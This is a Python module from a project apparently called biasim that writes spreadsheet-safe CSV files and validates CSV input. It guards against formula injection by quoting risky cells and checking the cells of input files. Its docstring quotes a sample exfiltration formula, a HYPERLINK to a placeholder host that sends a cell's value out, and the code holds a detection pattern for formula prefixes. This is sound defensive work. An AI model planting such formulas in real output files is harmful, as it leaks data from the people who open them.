"""CSV tables in and out: every table biasim writes is safe to open in a spreadsheet, and every
table it reads has one column per name.

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms ``＝＋－＠``,
which spreadsheets fold to them), after any spaces or line breaks, or with a tab or a carriage
return, is a formula to Excel, LibreOffice and Google Sheets: a model's answer or a group label
such as ``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``.
Such cells get a leading ``'`` (the OWASP CSV-injection rule); plain numbers such as ``-0.5`` are
left as they are. The parquet tables keep every value exactly.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

from biasim.simulator.common.csvlimits import CsvLimits
from biasim.simulator.common.errors import InputError, Problem
from biasim.simulator.common.lazy import lazy_module
from biasim.simulator.common.rundir import write_atomic

pd = lazy_module("pandas")

#: First characters a spreadsheet reads as the start of a formula (after leading blanks).
FORMULA_START = "^([ \t\r\n]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r])"
# A number is data, not a formula, even with a sign (`-0.5`, `+3e-2`).
_NUMBER = r"^ *[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *$"
_FORMULA_RE = re.compile(FORMULA_START)
_NUMBER_RE = re.compile(_NUMBER)


def csv_safe(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and _FORMULA_RE.match(value) and not _NUMBER_RE.match(value):
        return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are :func:`csv_safe`."""
    out = frame.rename(columns=lambda c: csv_safe(c) if isinstance(c, str) else c)
    for i, dtype in enumerate(out.dtypes):
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            out.isetitem(i, out.iloc[:, i].map(csv_safe))
    return out


def csv_safe_table(table: pa.Table) -> pa.Table:
    """The same rule on an Arrow table's string columns (vectorised: results can be large)."""
    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            starts = pc.match_substring_regex(column, FORMULA_START)
            if not pc.any(starts).as_py():
                # Most columns (ids, labels, choices) hold no such cell: one scan, not four.
                columns.append(column)
                continue
            risky = pc.and_(starts, pc.invert(pc.match_substring_regex(column, _NUMBER)))
            quoted = pc.binary_join_element_wise(pa.scalar("'"), column, "")
            column = pc.if_else(pc.fill_null(risky, False), quoted, column)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)


def write_csv(path: Path, frame: pd.DataFrame) -> None:
    """Write ``frame`` as a spreadsheet-safe CSV, atomically (the one writer of CSV tables).

    Rows end in CRLF (RFC 4180): with pandas' default ``\\n`` a cell holding a bare carriage
    return is left unquoted and splits its row when read back.
    """
    safe = csv_safe_frame(frame)
    write_atomic(path, lambda tmp: safe.to_csv(tmp, index=False, lineterminator="\r\n"))


def read_csv(
    path: Path, what: str, limits: CsvLimits | None = None, *, empty_is_missing: bool = True
) -> pd.DataFrame:
    """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name or a
    cell longer than ``limits.max_cell_chars`` or holding a NUL byte (checked while streaming,
    before pandas holds the file).

    Args:
        path: The file.
        what: What the file is, for messages (e.g. ``decisions CSV``).
        limits: The bounds (default :class:`CsvLimits`).
        empty_is_missing: Read an empty cell as missing (else as the empty string).

    Raises:
        InputError: Unreadable, not a regular file, a column name written twice, a cell too long
            or with a NUL byte.
    """
    limits = limits or CsvLimits()
    if not path.is_file():
        raise InputError(f"{path}: cannot read {what}: not a regular file")
    try:
        header = _check_cells(path, limits.max_cell_chars)
        missing = [""] if empty_is_missing else []
        df = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=missing)
    except (OSError, ValueError, UnicodeDecodeError, csv.Error) as exc:
        raise InputError(f"{path}: cannot read {what}: {exc}") from None
    seen: set[str] = set()
    for name in header:
        if name in seen:
            raise InputError(
                [Problem(str(path), 1, name, "column name is written twice in the header")]
            )
        seen.add(name)
    return df


def _check_cells(path: Path, max_chars: int) -> list[str]:
    """Stream ``path`` once, refusing a cell over ``max_chars``; return the header."""
    previous = csv.field_size_limit(max_chars)
    try:
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.reader(handle)
            header = next(reader, [])
            try:
                for row in reader:
                    if any("\x00" in cell for cell in row):
                        raise _located(path, reader.line_num, "a NUL byte in a cell")
            except csv.Error as exc:
                if "field larger than field limit" not in str(exc):
                    raise
                raise _located(
                    path,
                    reader.line_num,
                    f"a cell longer than the limit of {max_chars:,} characters "
                    "(--max-cell-chars raises it)",
                ) from None
    finally:
        csv.field_size_limit(previous)
    return header


def _located(path: Path, line: int, message: str) -> InputError:
    return InputError([Problem(str(path), line, "", message)])


def check_group_count(frame: pd.DataFrame, columns: list[str], path: Path, limit: int) -> None:
    """Refuse more than ``limit`` distinct groups (combinations of ``columns``)."""
    present = [c for c in columns if c in frame.columns]
    if not present:
        return
    count = len(frame[present].drop_duplicates())
    if count > limit:
        raise InputError(
            [
                Problem(
                    str(path),
                    None,
                    ",".join(present),
                    f"{count:,} distinct groups, more than the limit of {limit:,} "
                    "(--max-groups raises it)",
                )
            ]
        )
